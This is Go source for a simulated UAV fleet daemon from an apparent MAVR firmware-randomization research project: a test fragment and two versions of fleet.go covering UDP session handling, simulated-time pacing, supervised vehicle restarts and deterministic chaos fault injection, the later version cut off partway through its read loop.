		st := v.Sys().Master.Stats()
		if st.ArmoryProvisioned != 0 || st.ArmoryFallbacks != 1 {
			t.Fatalf("vehicle %d: provisioned=%d fallbacks=%d, want 0 and 1",
				v.SysID, st.ArmoryProvisioned, st.ArmoryFallbacks)
		}
		if v.Sys().Master.CurrentPerm() == nil {
			t.Fatalf("vehicle %d: fallback did not randomize", v.SysID)
		}
	}
	if !strings.Contains(f.MetricsText(), "fleet.armory_fallbacks 2\n") {
		t.Fatalf("metrics missing fallback count:\n%s", f.MetricsText())
	}
}
