// The fleet daemon bridges simulated time to real time: the pacer
// schedules simulation steps against the wall clock on purpose.
//mavr:wallclock

package netlink

import (
	"errors"
	"fmt"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"mavr/internal/board"
	"mavr/internal/firmware"
)

// FleetConfig sizes and shapes a Fleet.
type FleetConfig struct {
	// Vehicles is the number of hosted UAVs (1..250); they get system
	// ids 1..Vehicles.
	Vehicles int
	// Addr is the UDP listen address (default "127.0.0.1:0").
	Addr string
	// Firmware is the image every vehicle flies (default: the
	// vulnerable test application, MAVR build). The image is shared —
	// FlashFirmware does not mutate it.
	Firmware *firmware.Image
	// Protected boots MAVR boards (master + randomization) instead of
	// the paper's unprotected attack-target baseline.
	Protected bool
	// MasterSeed seeds the per-vehicle randomization (vehicle i adds i).
	MasterSeed int64
	// Step is the simulated time advanced per vehicle tick (default
	// 10ms).
	Step time.Duration
	// Rate paces the simulation: simulated seconds per wall second.
	// 1 is real time; 0 or negative free-runs as fast as the host
	// allows (used by tests and load generation).
	Rate float64
	// Sim impairs every link through the deterministic link simulator.
	Sim SimConfig
	// SessionTimeout expires sessions with no uplink datagrams (wall
	// clock; default 5s).
	SessionTimeout time.Duration
	// TimeBeacon is the maximum simulated interval between downlink
	// datagrams per session: when a vehicle emits no telemetry for this
	// long (crashed application), an empty datagram still carries its
	// sim clock so ground stations can measure vehicle silence in
	// simulated time (default 50ms).
	TimeBeacon time.Duration
}

func (c FleetConfig) withDefaults() FleetConfig {
	if c.Vehicles <= 0 {
		c.Vehicles = 1
	}
	if c.Addr == "" {
		c.Addr = "127.0.0.1:0"
	}
	if c.Step <= 0 {
		c.Step = 10 * time.Millisecond
	}
	if c.SessionTimeout <= 0 {
		c.SessionTimeout = 5 * time.Second
	}
	if c.TimeBeacon <= 0 {
		c.TimeBeacon = 50 * time.Millisecond
	}
	return c
}

// VehicleSnapshot is a race-free view of a vehicle, refreshed by its
// driver goroutine once per tick.
type VehicleSnapshot struct {
	SysID     byte
	SimTime   time.Duration
	Ticks     uint64
	Running   bool
	GyroCfg   byte
	Reflashes int
}

// Vehicle is one hosted UAV: a board.System plus its downlink
// packetization state. Sys must only be touched directly once the
// fleet is closed (the driver goroutine owns it while running); use
// Snapshot for live observation.
type Vehicle struct {
	SysID byte
	Sys   *board.System

	splitter   StreamSplitter
	lastBeacon time.Duration
	ticks      uint64
	snap       atomic.Value // VehicleSnapshot
	runErr     atomic.Value // error
}

// Snapshot returns the vehicle's last published state.
func (v *Vehicle) Snapshot() VehicleSnapshot {
	s, _ := v.snap.Load().(VehicleSnapshot)
	return s
}

// Err returns the simulation error that stopped the vehicle, if any.
func (v *Vehicle) Err() error {
	err, _ := v.runErr.Load().(error)
	return err
}

func (v *Vehicle) publish() {
	v.snap.Store(VehicleSnapshot{
		SysID:     v.SysID,
		SimTime:   v.Sys.Now(),
		Ticks:     v.ticks,
		Running:   v.Sys.App.Running(),
		GyroCfg:   v.Sys.App.CPU.Data[firmware.AddrGyroCfg],
		Reflashes: len(v.Sys.Reflashes()),
	})
}

// Fleet hosts N simulated UAVs behind one UDP socket: per-vehicle
// driver goroutines advance the boards, a read loop demultiplexes
// uplink datagrams into per-session state and vehicle uplinks, and
// downlink telemetry is packetized on record boundaries and fanned out
// to every subscribed session (through the link simulator).
type Fleet struct {
	cfg      FleetConfig
	conn     *net.UDPConn
	send     *sender
	vehicles []*Vehicle
	sessions *sessionTable

	badDatagrams atomic.Uint64
	started      time.Time

	stop    chan struct{}
	wg      sync.WaitGroup
	closeMu sync.Mutex
	closed  bool
}

// NewFleet builds, flashes and boots the vehicles. Call Start to bind
// the socket and begin flying.
func NewFleet(cfg FleetConfig) (*Fleet, error) {
	cfg = cfg.withDefaults()
	if cfg.Vehicles > 250 {
		return nil, fmt.Errorf("netlink: %d vehicles exceed the 250 system ids", cfg.Vehicles)
	}
	img := cfg.Firmware
	if img == nil {
		var err error
		img, err = firmware.Generate(firmware.TestApp(), firmware.ModeMAVR)
		if err != nil {
			return nil, err
		}
	}
	f := &Fleet{
		cfg:      cfg,
		sessions: newSessionTable(),
		stop:     make(chan struct{}),
	}
	for i := 0; i < cfg.Vehicles; i++ {
		sysCfg := board.SystemConfig{Unprotected: true}
		if cfg.Protected {
			sysCfg = board.SystemConfig{Master: board.MasterConfig{
				Seed:            cfg.MasterSeed + int64(i),
				WatchdogTimeout: 20 * time.Millisecond,
			}}
		}
		sys := board.NewSystem(sysCfg)
		if err := sys.FlashFirmware(img); err != nil {
			return nil, fmt.Errorf("vehicle %d: flash: %w", i+1, err)
		}
		if _, err := sys.Boot(); err != nil {
			return nil, fmt.Errorf("vehicle %d: boot: %w", i+1, err)
		}
		v := &Vehicle{SysID: byte(i + 1), Sys: sys}
		v.publish()
		f.vehicles = append(f.vehicles, v)
	}
	return f, nil
}

// Start binds the UDP socket and launches the read loop, the session
// reaper and one driver goroutine per vehicle.
func (f *Fleet) Start() error {
	addr, err := net.ResolveUDPAddr("udp", f.cfg.Addr)
	if err != nil {
		return err
	}
	conn, err := net.ListenUDP("udp", addr)
	if err != nil {
		return err
	}
	_ = conn.SetReadBuffer(1 << 20)
	_ = conn.SetWriteBuffer(1 << 20)
	f.conn = conn
	f.send = newSender(conn)
	f.started = time.Now()

	f.wg.Add(1)
	go f.readLoop()

	f.wg.Add(1)
	go f.reapLoop()

	for _, v := range f.vehicles {
		f.wg.Add(1)
		go f.driveVehicle(v)
	}
	return nil
}

// Addr returns the bound UDP address (valid after Start).
func (f *Fleet) Addr() *net.UDPAddr { return f.conn.LocalAddr().(*net.UDPAddr) }

// Vehicle returns the hosted vehicle with the given system id, or nil.
func (f *Fleet) Vehicle(sysID byte) *Vehicle {
	if sysID < 1 || int(sysID) > len(f.vehicles) {
		return nil
	}
	return f.vehicles[sysID-1]
}

// Vehicles returns all hosted vehicles.
func (f *Fleet) Vehicles() []*Vehicle { return f.vehicles }

// Sessions returns the number of live GCS sessions.
func (f *Fleet) Sessions() int { return f.sessions.count() }

// Close stops all goroutines and releases the socket. After Close
// returns, vehicle state (Vehicle.Sys) may be inspected directly.
func (f *Fleet) Close() error {
	f.closeMu.Lock()
	defer f.closeMu.Unlock()
	if f.closed {
		return nil
	}
	f.closed = true
	close(f.stop)
	if f.conn != nil {
		f.conn.Close() // unblocks the read loop
	}
	f.wg.Wait()
	if f.send != nil {
		f.send.close()
	}
	return nil
}

// driveVehicle advances one board at the configured rate, packetizes
// its downlink on record boundaries and fans datagrams out to the
// vehicle's subscribers.
func (f *Fleet) driveVehicle(v *Vehicle) {
	defer f.wg.Done()
	simStart := v.Sys.Now()
	wallStart := time.Now()
	for {
		select {
		case <-f.stop:
			return
		default:
		}

		if f.cfg.Rate > 0 {
			// Sleep until the wall clock catches up with the sim clock.
			simElapsed := v.Sys.Now() - simStart
			due := wallStart.Add(time.Duration(float64(simElapsed) / f.cfg.Rate))
			if d := time.Until(due); d > 0 {
				select {
				case <-f.stop:
					return
				case <-time.After(d):
				}
			}
		}

		if err := v.Sys.Run(f.cfg.Step); err != nil {
			v.runErr.Store(err)
			v.publish()
			return
		}
		v.ticks++
		now := v.Sys.Now()

		records := v.splitter.Feed(v.Sys.DrainGCS())
		subs := f.sessions.subscribers(v.SysID)
		if len(records) > 0 && len(subs) > 0 {
			payloads := packRecords(records, MaxDatagram-HeaderSize)
			for _, sess := range subs {
				sess.stats.RecordsOut.Add(uint64(len(records)))
				for _, p := range payloads {
					f.sendDownlink(sess, now, p)
				}
			}
			v.lastBeacon = now
		} else if now-v.lastBeacon >= f.cfg.TimeBeacon {
			// No telemetry: still carry the sim clock so ground stations
			// can tell vehicle silence from link loss.
			for _, sess := range subs {
				f.sendDownlink(sess, now, nil)
			}
			v.lastBeacon = now
		}
		v.publish()
	}
}

// sendDownlink wraps one payload for one session and transmits it
// through the link simulator.
func (f *Fleet) sendDownlink(sess *session, simNow time.Duration, payload []byte) {
	seq := sess.txSeq
	sess.txSeq++
	pkt := Encode(Header{Type: PacketData, SysID: sess.sysID, Seq: seq, SimTime: simNow}, payload)

	if !f.cfg.Sim.Active() {
		sess.stats.DatagramsOut.Add(1)
		sess.stats.BytesOut.Add(uint64(len(pkt)))
		f.send.send(sess.addr, pkt, 0)
		return
	}
	fate := f.cfg.Sim.Fate(downLink(sess.sysID), seq)
	if fate.Drop {
		sess.stats.SimDropped.Add(1)
		return
	}
	if fate.Copies > 1 {
		sess.stats.SimDuplicated.Add(uint64(fate.Copies - 1))
	}
	if fate.Delay > 0 {
		sess.stats.SimDelayed.Add(1)
	}
	for i := 0; i < fate.Copies; i++ {
		sess.stats.DatagramsOut.Add(1)
		sess.stats.BytesOut.Add(uint64(len(pkt)))
		f.send.send(sess.addr, pkt, fate.Delay)
	}
}

// downLink and upLink name a vehicle's radio directions for the link
// simulator. Ephemeral peer ports are deliberately excluded so the
// impairment schedule is reproducible across runs.
func downLink(sysID byte) string { return fmt.Sprintf("v%d/down", sysID) }
func upLink(sysID byte) string   { return fmt.Sprintf("v%d/up", sysID) }

// readLoop demultiplexes uplink datagrams: session bookkeeping, link
// counters, and raw payload forwarding onto the vehicle's serial
// uplink.
func (f *Fleet) readLoop() {
	defer f.wg.Done()
	buf := make([]byte, 1<<16)
	for {
		n, addr, err := f.conn.ReadFromUDP(buf)
		if err != nil {
			select {
			case <-f.stop:
				return
			default:
			}
			if errors.Is(err, net.ErrClosed) {
				return
			}
			continue
		}
		h, payload, err := Decode(buf[:n])
		if err != nil || f.Vehicle(h.SysID) == nil {
			f.badDatagrams.Add(1)
			continue
		}
		now := time.Now()
		sess, existed := f.sessions.lookup(addr, h.SysID, now)
		sess.touch(now)
		if !existed && h.Type == PacketBye {
			f.sessions.remove(sess)
			continue
		}

		switch h.Type {
		case PacketBye:
			f.sessions.remove(sess)
		case PacketHello:
			// Session creation/refresh is all a hello does.
		case PacketData:
			sess.trackRx(h.Seq)
			sess.stats.DatagramsIn.Add(1)
			sess.stats.BytesIn.Add(uint64(n))
			if len(payload) == 0 {
				break
			}
			if f.cfg.Sim.Active() {
				fate := f.cfg.Sim.Fate(upLink(h.SysID), h.Seq)
				if fate.Drop {
					sess.stats.SimDropped.Add(1)
					break
				}
			}
			sess.parser.feed(payload, &sess.stats)
			f.vehicles[h.SysID-1].Sys.SendToUAV(payload)
		default:
			f.badDatagrams.Add(1)
		}
	}
}

// reapLoop expires idle sessions on the wall clock.
func (f *Fleet) reapLoop() {
	defer f.wg.Done()
	interval := f.cfg.SessionTimeout / 4
	if interval < 10*time.Millisecond {
		interval = 10 * time.Millisecond
	}
	ticker := time.NewTicker(interval)
	defer ticker.Stop()
	for {
		select {
		case <-f.stop:
			return
		case now := <-ticker.C:
			f.sessions.expire(now, f.cfg.SessionTimeout)
		}
	}
}

// ExpiredSessions returns how many sessions the reaper has dropped.
func (f *Fleet) ExpiredSessions() uint64 { return f.sessions.expired.Load() }

// MetricsText renders fleet, per-vehicle and per-link counters as a
// plain-text block (one "name value" pair per line, sorted), the
// format served by cmd/mavr-fleetd's -metrics endpoint.
func (f *Fleet) MetricsText() string {
	lines := []string{
		fmt.Sprintf("fleet.vehicles %d", len(f.vehicles)),
		fmt.Sprintf("fleet.sessions %d", f.sessions.count()),
		fmt.Sprintf("fleet.sessions_expired %d", f.sessions.expired.Load()),
		fmt.Sprintf("fleet.bad_datagrams %d", f.badDatagrams.Load()),
		fmt.Sprintf("fleet.uptime_ms %d", time.Since(f.started).Milliseconds()),
	}
	for _, v := range f.vehicles {
		s := v.Snapshot()
		p := fmt.Sprintf("vehicle.%d", v.SysID)
		lines = append(lines,
			fmt.Sprintf("%s.simtime_ms %d", p, s.SimTime.Milliseconds()),
			fmt.Sprintf("%s.ticks %d", p, s.Ticks),
			fmt.Sprintf("%s.running %d", p, b2i(s.Running)),
			fmt.Sprintf("%s.gyrocfg %d", p, s.GyroCfg),
			fmt.Sprintf("%s.reflashes %d", p, s.Reflashes),
		)
	}
	for _, sess := range f.sessions.all() {
		prefix := fmt.Sprintf("link.%s", sess.key)
		lines = append(lines, sess.stats.Snapshot().metricsLines(prefix)...)
	}
	return formatMetrics(lines)
}

func b2i(b bool) int {
	if b {
		return 1
	}
	return 0
}
