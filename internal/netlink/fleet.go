// The fleet daemon bridges simulated time to real time: the pacer
// schedules simulation steps against the wall clock on purpose.
//mavr:wallclock

package netlink

import (
	"errors"
	"fmt"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"mavr/internal/board"
	"mavr/internal/chaos"
	"mavr/internal/firmware"
)

// FleetConfig sizes and shapes a Fleet.
type FleetConfig struct {
	// Vehicles is the number of hosted UAVs (1..250); they get system
	// ids 1..Vehicles.
	Vehicles int
	// Addr is the UDP listen address (default "127.0.0.1:0").
	Addr string
	// Firmware is the image every vehicle flies (default: the
	// vulnerable test application, MAVR build). The image is shared —
	// FlashFirmware does not mutate it.
	Firmware *firmware.Image
	// Protected boots MAVR boards (master + randomization) instead of
	// the paper's unprotected attack-target baseline.
	Protected bool
	// MasterSeed seeds the per-vehicle randomization (vehicle i adds i).
	MasterSeed int64
	// Provision, when set on a Protected fleet, provisions randomized
	// images from the fleet armory instead of randomizing on-board:
	// each master's re-randomizations call it with the vehicle's system
	// id and epoch (typically a closure over armory.Client.Randomize).
	// Errors degrade gracefully to on-board randomization, counted in
	// the fleet.armory_fallbacks metric.
	Provision func(sysID byte, epoch int) (*board.Provisioned, error)
	// Step is the simulated time advanced per vehicle tick (default
	// 10ms).
	Step time.Duration
	// Rate paces the simulation: simulated seconds per wall second.
	// 1 is real time; 0 or negative free-runs as fast as the host
	// allows (used by tests and load generation).
	Rate float64
	// Sim impairs every link through the deterministic link simulator.
	Sim SimConfig
	// Chaos injects the deterministic fault schedule: board panics,
	// hangs and clock stalls realized by the driver goroutines, link
	// partitions and datagram corruption realized on the send/receive
	// paths. The zero value injects nothing.
	Chaos chaos.Config
	// RestartBudget caps consecutive supervised restarts per vehicle
	// before it is parked as degraded (default 8; negative disables
	// supervision — the first crash degrades the vehicle).
	RestartBudget int
	// MaxSessions caps the session table; joins beyond the cap are
	// rejected and counted (default 1024).
	MaxSessions int
	// DrainTimeout bounds Close: if the driver/read/reap goroutines
	// have not drained by then, Close gives up and reports the leak
	// instead of hanging the caller (default 5s).
	DrainTimeout time.Duration
	// SessionTimeout expires sessions with no uplink datagrams (wall
	// clock; default 5s).
	SessionTimeout time.Duration
	// TimeBeacon is the maximum simulated interval between downlink
	// datagrams per session: when a vehicle emits no telemetry for this
	// long (crashed application), an empty datagram still carries its
	// sim clock so ground stations can measure vehicle silence in
	// simulated time (default 50ms).
	TimeBeacon time.Duration
}

func (c FleetConfig) withDefaults() FleetConfig {
	if c.Vehicles <= 0 {
		c.Vehicles = 1
	}
	if c.Addr == "" {
		c.Addr = "127.0.0.1:0"
	}
	if c.Step <= 0 {
		c.Step = 10 * time.Millisecond
	}
	if c.RestartBudget == 0 {
		c.RestartBudget = 8
	}
	if c.MaxSessions <= 0 {
		c.MaxSessions = 1024
	}
	if c.DrainTimeout <= 0 {
		c.DrainTimeout = 5 * time.Second
	}
	if c.SessionTimeout <= 0 {
		c.SessionTimeout = 5 * time.Second
	}
	if c.TimeBeacon <= 0 {
		c.TimeBeacon = 50 * time.Millisecond
	}
	return c
}

// VehicleSnapshot is a race-free view of a vehicle, refreshed by its
// driver goroutine once per tick.
type VehicleSnapshot struct {
	SysID     byte
	SimTime   time.Duration
	Ticks     uint64
	Running   bool
	GyroCfg   byte
	Reflashes int
	// Restarts counts supervised driver restarts after crashes.
	Restarts int
	// Degraded is set when the restart budget is exhausted: the
	// vehicle is parked and no longer simulated.
	Degraded bool
}

// Vehicle is one hosted UAV: a board.System plus its downlink
// packetization state. The system must only be touched directly once
// the fleet is closed (the driver goroutine owns it while running);
// use Snapshot for live observation.
type Vehicle struct {
	SysID byte

	// sys is swapped by the supervisor when a crashed board is rebuilt,
	// so reads go through the pointer.
	sys atomic.Pointer[board.System]

	splitter   StreamSplitter
	lastBeacon time.Duration
	ticks      uint64

	// Chaos hold window: while ticks < holdUntil the board is hung or
	// stalled (holdKind) and no new fates are drawn. heldTicks feeds
	// the pacer, whose wall schedule must keep moving while the sim
	// clock is frozen.
	holdUntil uint64
	holdKind  chaos.BoardFaultKind
	holdStart uint64
	heldTicks uint64

	restarts atomic.Uint32
	degraded atomic.Bool
	snap     atomic.Value // VehicleSnapshot
	runErr   atomic.Value // error
}

// Sys returns the vehicle's current board. Only inspect it directly
// once the fleet is closed; the driver goroutine owns it while
// running, and the supervisor replaces it after a crash.
func (v *Vehicle) Sys() *board.System { return v.sys.Load() }

// Snapshot returns the vehicle's last published state.
func (v *Vehicle) Snapshot() VehicleSnapshot {
	s, _ := v.snap.Load().(VehicleSnapshot)
	return s
}

// Err returns the most recent simulation error or recovered panic that
// crashed the vehicle's driver, if any.
func (v *Vehicle) Err() error {
	err, _ := v.runErr.Load().(error)
	return err
}

// Restarts returns how many times the supervisor restarted the
// vehicle.
func (v *Vehicle) Restarts() int { return int(v.restarts.Load()) }

// Degraded reports whether the vehicle exhausted its restart budget
// and is parked.
func (v *Vehicle) Degraded() bool { return v.degraded.Load() }

func (v *Vehicle) publish() {
	sys := v.sys.Load()
	v.snap.Store(VehicleSnapshot{
		SysID:     v.SysID,
		SimTime:   sys.Now(),
		Ticks:     v.ticks,
		Running:   sys.App.Running(),
		GyroCfg:   sys.App.CPU.Data[firmware.AddrGyroCfg],
		Reflashes: len(sys.Reflashes()),
		Restarts:  int(v.restarts.Load()),
		Degraded:  v.degraded.Load(),
	})
}

// Fleet hosts N simulated UAVs behind one UDP socket: per-vehicle
// supervised driver goroutines advance the boards (restarting them
// after crashes), a read loop demultiplexes uplink datagrams into
// per-session state and vehicle uplinks, and downlink telemetry is
// packetized on record boundaries and fanned out to every subscribed
// session (through the link simulator and the chaos schedule).
type Fleet struct {
	cfg      FleetConfig
	img      *firmware.Image
	conn     *net.UDPConn
	send     *sender
	vehicles []*Vehicle
	sessions *sessionTable

	badDatagrams      atomic.Uint64
	corruptDatagrams  atomic.Uint64
	armoryProvisioned atomic.Uint64
	armoryFallbacks   atomic.Uint64
	chaosPartitioned  atomic.Uint64
	chaosCorrupted    atomic.Uint64
	chaosBoardFaults  atomic.Uint64
	started           time.Time

	stop    chan struct{}
	wg      sync.WaitGroup
	closeMu sync.Mutex
	closed  bool
}

// NewFleet builds, flashes and boots the vehicles. Call Start to bind
// the socket and begin flying.
func NewFleet(cfg FleetConfig) (*Fleet, error) {
	cfg = cfg.withDefaults()
	if cfg.Vehicles > 250 {
		return nil, fmt.Errorf("netlink: %d vehicles exceed the 250 system ids", cfg.Vehicles)
	}
	img := cfg.Firmware
	if img == nil {
		var err error
		img, err = firmware.Generate(firmware.TestApp(), firmware.ModeMAVR)
		if err != nil {
			return nil, err
		}
	}
	f := &Fleet{
		cfg:      cfg,
		img:      img,
		sessions: newSessionTable(cfg.MaxSessions),
		stop:     make(chan struct{}),
	}
	for i := 0; i < cfg.Vehicles; i++ {
		sys, err := f.newSystem(i)
		if err != nil {
			return nil, fmt.Errorf("vehicle %d: %w", i+1, err)
		}
		v := &Vehicle{SysID: byte(i + 1)}
		v.sys.Store(sys)
		v.publish()
		f.vehicles = append(f.vehicles, v)
	}
	return f, nil
}

// newSystem builds, flashes and boots one board — the factory both the
// initial fleet and the supervisor's crash recovery go through.
func (f *Fleet) newSystem(i int) (*board.System, error) {
	sysCfg := board.SystemConfig{Unprotected: true}
	if f.cfg.Protected {
		mc := board.MasterConfig{
			Seed:            f.cfg.MasterSeed + int64(i),
			WatchdogTimeout: 20 * time.Millisecond,
		}
		if f.cfg.Provision != nil {
			sysID := byte(i + 1)
			prov := f.cfg.Provision
			mc.Provision = func(epoch int) (*board.Provisioned, error) {
				p, err := prov(sysID, epoch)
				if err != nil || p == nil {
					f.armoryFallbacks.Add(1)
					return nil, err
				}
				f.armoryProvisioned.Add(1)
				return p, nil
			}
		}
		sysCfg = board.SystemConfig{Master: mc}
	}
	sys := board.NewSystem(sysCfg)
	if err := sys.FlashFirmware(f.img); err != nil {
		return nil, fmt.Errorf("flash: %w", err)
	}
	if _, err := sys.Boot(); err != nil {
		return nil, fmt.Errorf("boot: %w", err)
	}
	return sys, nil
}

// Start binds the UDP socket and launches the read loop, the session
// reaper and one supervised driver goroutine per vehicle.
func (f *Fleet) Start() error {
	addr, err := net.ResolveUDPAddr("udp", f.cfg.Addr)
	if err != nil {
		return err
	}
	conn, err := net.ListenUDP("udp", addr)
	if err != nil {
		return err
	}
	_ = conn.SetReadBuffer(1 << 20)
	_ = conn.SetWriteBuffer(1 << 20)
	f.conn = conn
	f.send = newSender(conn)
	f.started = time.Now()

	f.wg.Add(1)
	go f.readLoop()

	f.wg.Add(1)
	go f.reapLoop()

	for _, v := range f.vehicles {
		f.wg.Add(1)
		go f.superviseVehicle(v)
	}
	return nil
}

// Addr returns the bound UDP address (valid after Start).
func (f *Fleet) Addr() *net.UDPAddr { return f.conn.LocalAddr().(*net.UDPAddr) }

// Vehicle returns the hosted vehicle with the given system id, or nil.
func (f *Fleet) Vehicle(sysID byte) *Vehicle {
	if sysID < 1 || int(sysID) > len(f.vehicles) {
		return nil
	}
	return f.vehicles[sysID-1]
}

// Vehicles returns all hosted vehicles.
func (f *Fleet) Vehicles() []*Vehicle { return f.vehicles }

// Sessions returns the number of live GCS sessions.
func (f *Fleet) Sessions() int { return f.sessions.count() }

// DegradedVehicles counts vehicles parked after exhausting their
// restart budget.
func (f *Fleet) DegradedVehicles() int {
	n := 0
	for _, v := range f.vehicles {
		if v.degraded.Load() {
			n++
		}
	}
	return n
}

// Close stops all goroutines and releases the socket, waiting at most
// DrainTimeout for the drain. After a clean Close, vehicle state
// (Vehicle.Sys) may be inspected directly and no fleet goroutines or
// sessions remain.
func (f *Fleet) Close() error {
	f.closeMu.Lock()
	defer f.closeMu.Unlock()
	if f.closed {
		return nil
	}
	f.closed = true
	close(f.stop)
	if f.conn != nil {
		f.conn.Close() // unblocks the read loop
	}
	done := make(chan struct{})
	go func() {
		f.wg.Wait()
		close(done)
	}()
	select {
	case <-done:
	case <-time.After(f.cfg.DrainTimeout):
		return fmt.Errorf("netlink: fleet drain exceeded %v", f.cfg.DrainTimeout)
	}
	if f.send != nil {
		f.send.close()
	}
	f.sessions.clear()
	return nil
}

// superviseVehicle owns one vehicle's lifecycle: it runs the driver,
// recovers from crashes (chaos panics, simulation faults), rebuilds
// the board with the sim clock fast-forwarded so vehicle time stays
// monotonic, and parks the vehicle as degraded once the restart budget
// is spent. Restart delays back off exponentially with deterministic
// jitter from the chaos seed.
func (f *Fleet) superviseVehicle(v *Vehicle) {
	defer f.wg.Done()
	for {
		err := f.runVehicle(v)
		if err == nil {
			return // clean shutdown
		}
		v.runErr.Store(err)
		attempt := int(v.restarts.Load())
		if f.cfg.RestartBudget < 0 || attempt >= f.cfg.RestartBudget {
			v.degraded.Store(true)
			v.publish()
			return
		}
		v.restarts.Add(1)
		delay := chaos.Backoff(f.cfg.Chaos.Seed, uint64(v.SysID), attempt,
			10*time.Millisecond, time.Second)
		select {
		case <-f.stop:
			v.publish()
			return
		case <-time.After(delay):
		}
		if rerr := f.restartVehicle(v); rerr != nil {
			v.runErr.Store(rerr)
			v.degraded.Store(true)
			v.publish()
			return
		}
	}
}

// restartVehicle rebuilds a crashed vehicle's board from the shared
// firmware image: fresh flash, fresh boot, sim clock fast-forwarded to
// the predecessor's — the same semantics as the paper's master reflash
// recovery, where volatile state is lost but the mission clock is not.
func (f *Fleet) restartVehicle(v *Vehicle) error {
	old := v.sys.Load()
	sys, err := f.newSystem(int(v.SysID) - 1)
	if err != nil {
		return fmt.Errorf("vehicle %d: restart: %w", v.SysID, err)
	}
	sys.FastForward(old.Now())
	v.splitter = StreamSplitter{}
	v.sys.Store(sys)
	v.publish()
	return nil
}

// runVehicle advances one board at the configured rate, realizes the
// chaos schedule's board faults, packetizes the downlink on record
// boundaries and fans datagrams out to the vehicle's subscribers. It
// returns nil on fleet shutdown; a non-nil error (including recovered
// driver panics) hands the vehicle to the supervisor.
func (f *Fleet) runVehicle(v *Vehicle) (err error) {
	defer func() {
		if r := recover(); r != nil {
			err = fmt.Errorf("vehicle %d: driver panic: %v", v.SysID, r)
		}
	}()
	sys := v.sys.Load()
	simStart := sys.Now()
	heldStart := v.heldTicks
	wallStart := time.Now()
	beaconEvery := uint64(f.cfg.TimeBeacon / f.cfg.Step)
	if beaconEvery == 0 {
		beaconEvery = 1
	}
	for {
		select {
		case <-f.stop:
			return nil
		default:
		}

		if f.cfg.Rate > 0 {
			// Sleep until the wall clock catches up with the sim clock.
			// Held (hung/stalled) ticks advance the wall schedule even
			// though the sim clock is frozen — a hung board still burns
			// real time.
			simElapsed := sys.Now() - simStart +
				time.Duration(v.heldTicks-heldStart)*f.cfg.Step
			due := wallStart.Add(time.Duration(float64(simElapsed) / f.cfg.Rate))
			if d := time.Until(due); d > 0 {
				select {
				case <-f.stop:
					return nil
				case <-time.After(d):
				}
			}
		}

		if f.cfg.Chaos.BoardActive() && v.ticks >= v.holdUntil {
			switch fate := f.cfg.Chaos.BoardFate(v.SysID, v.ticks); fate.Kind {
			case chaos.FaultPanic:
				f.chaosBoardFaults.Add(1)
				tick := v.ticks
				// Consume the crashing tick: the restarted driver resumes
				// past it instead of re-drawing the same fatal fate.
				v.ticks++
				v.heldTicks++
				panic(fmt.Sprintf("chaos: scheduled panic for vehicle %d at tick %d",
					v.SysID, tick))
			case chaos.FaultHang, chaos.FaultStall:
				f.chaosBoardFaults.Add(1)
				v.holdKind = fate.Kind
				v.holdStart = v.ticks
				v.holdUntil = v.ticks + uint64(fate.Ticks)
			}
		}

		if v.ticks < v.holdUntil {
			// Hung or stalled: the sim clock is frozen. A hung board is
			// dark (no datagrams — from the ground it reads as a dead
			// link); a stalled board's radio keeps beaconing the frozen
			// clock — the wedged-autopilot signature.
			v.ticks++
			v.heldTicks++
			if v.holdKind == chaos.FaultStall &&
				(v.ticks-v.holdStart)%beaconEvery == 0 {
				now := sys.Now()
				for _, sess := range f.sessions.subscribers(v.SysID) {
					f.sendDownlink(sess, now, nil)
				}
				v.lastBeacon = now
			}
			v.publish()
			continue
		}

		if err := sys.Run(f.cfg.Step); err != nil {
			v.publish()
			return fmt.Errorf("vehicle %d: %w", v.SysID, err)
		}
		v.ticks++
		now := sys.Now()

		records := v.splitter.Feed(sys.DrainGCS())
		subs := f.sessions.subscribers(v.SysID)
		if len(records) > 0 && len(subs) > 0 {
			payloads := packRecords(records, MaxDatagram-HeaderSize)
			for _, sess := range subs {
				sess.stats.RecordsOut.Add(uint64(len(records)))
				for _, p := range payloads {
					f.sendDownlink(sess, now, p)
				}
			}
			v.lastBeacon = now
		} else if now-v.lastBeacon >= f.cfg.TimeBeacon {
			// No telemetry: still carry the sim clock so ground stations
			// can tell vehicle silence from link loss.
			for _, sess := range subs {
				f.sendDownlink(sess, now, nil)
			}
			v.lastBeacon = now
		}
		v.publish()
	}
}

// sendDownlink wraps one payload for one session and transmits it
// through the chaos schedule and the link simulator.
func (f *Fleet) sendDownlink(sess *session, simNow time.Duration, payload []byte) {
	seq := sess.txSeq
	sess.txSeq++
	if f.cfg.Chaos.Partitioned(chaos.Down, sess.sysID, seq) {
		f.chaosPartitioned.Add(1)
		sess.stats.SimDropped.Add(1)
		return
	}
	pkt := Encode(Header{Type: PacketData, SysID: sess.sysID, Seq: seq, SimTime: simNow}, payload)
	if c, ok := f.cfg.Chaos.Corrupt(chaos.Down, sess.sysID, seq); ok {
		// Flip a post-version byte so the damage is the checksum's to
		// catch (magic/version flips are rejected before verification).
		pkt[3+int(c.Offset%uint64(len(pkt)-3))] ^= c.XOR
		f.chaosCorrupted.Add(1)
	}

	if !f.cfg.Sim.Active() {
		sess.stats.DatagramsOut.Add(1)
		sess.stats.BytesOut.Add(uint64(len(pkt)))
		f.send.send(sess.addr, pkt, 0)
		return
	}
	fate := f.cfg.Sim.Fate(downLink(sess.sysID), seq)
	if fate.Drop {
		sess.stats.SimDropped.Add(1)
		return
	}
	if fate.Copies > 1 {
		sess.stats.SimDuplicated.Add(uint64(fate.Copies - 1))
	}
	if fate.Delay > 0 {
		sess.stats.SimDelayed.Add(1)
	}
	for i := 0; i < fate.Copies; i++ {
		sess.stats.DatagramsOut.Add(1)
		sess.stats.BytesOut.Add(uint64(len(pkt)))
		f.send.send(sess.addr, pkt, fate.Delay)
	}
}

// downLink and upLink name a vehicle's radio directions for the link
// simulator. Ephemeral peer ports are deliberately excluded so the
// impairment schedule is reproducible across runs.
func downLink(sysID byte) string { return fmt.Sprintf("v%d/down", sysID) }
func upLink(sysID byte) string   { return fmt.Sprintf("v%d/up", sysID) }

// readLoop demultiplexes uplink datagrams: session bookkeeping, link
// counters, and raw payload forwarding onto the vehicle's serial
// uplink.
func (f *Fleet) readLoop() {
	defer f.wg.Done()
	buf := make([]byte, 1<<16)
	for {
		n, addr, err := f.conn.ReadFromUDP(buf)
		if err != nil {
			select {
			case <-f.stop:
				return
			default:
			}
			if errors.Is(err, net.ErrClosed) {
				return
			}
			continue
		}
		h, payload, err := Decode(buf[:n])
